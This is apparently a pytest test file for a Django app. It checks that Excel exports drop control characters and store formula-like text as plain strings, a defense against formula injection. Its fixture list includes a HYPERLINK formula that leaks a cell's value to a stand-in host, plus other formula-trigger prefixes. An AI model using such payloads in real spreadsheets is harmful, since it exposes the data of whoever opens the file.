"""Exports never fail on stored data and never carry formulas (core.excel.safe_row)."""

import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from xiuhao.core.imports import reading
from xiuhao.core.registry import registry
from xiuhao.org.models import Skill

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x/?"&B3,"查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"]


@pytest.fixture
def admin_client(client):
    admin = get_user_model().objects.create_superuser(username="admin", password="pass12345", email="a@x.cn")
    client.force_login(admin, backend="xiuhao.org.auth.RoleBackend")
    return client


def test_a_control_character_in_stored_text_does_not_break_the_export(admin_client):
    Skill.objects.create(code="ac", name="空调\x01维修\x1f")
    response = admin_client.get(registry.configs["org.skill"].url("export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "空调维修" in [c.value for c in sheet[2]]


def test_text_that_looks_like_a_formula_is_exported_as_text_and_read_back_unchanged(admin_client):
    for i, name in enumerate(FORMULAS):
        Skill.objects.create(code=f"f{i}", name=name)
    response = admin_client.get(registry.configs["org.skill"].url("export"))
    data = response.content
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value in FORMULAS]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}  # never "f"
    with reading.open_sheet(io.BytesIO(data)) as ws:
        read_back = {v for row in ws.rows() for v in row}
    assert set(FORMULAS) <= read_back  # the import gets exactly what the user typed


def test_control_characters_are_refused_on_the_page_and_in_the_api(admin_client, english):
    config = registry.configs["org.skill"]
    response = admin_client.post(config.url("add"), {"code": "ac", "name": "空调\x01"})
    assert "control characters" in response.content.decode()
    response = admin_client.post(f"/api/v1/{config.url_prefix}/", {"code": "ac", "name": "空调\x01"},
                                 content_type="application/json")
    assert response.status_code == 400
    assert "control characters" in response.content.decode()
    assert not Skill.objects.exists()
    response = admin_client.post(config.url("add"), {"code": "ac", "name": "空调\t维修"})
    assert Skill.objects.filter(name="空调\t维修").exists()
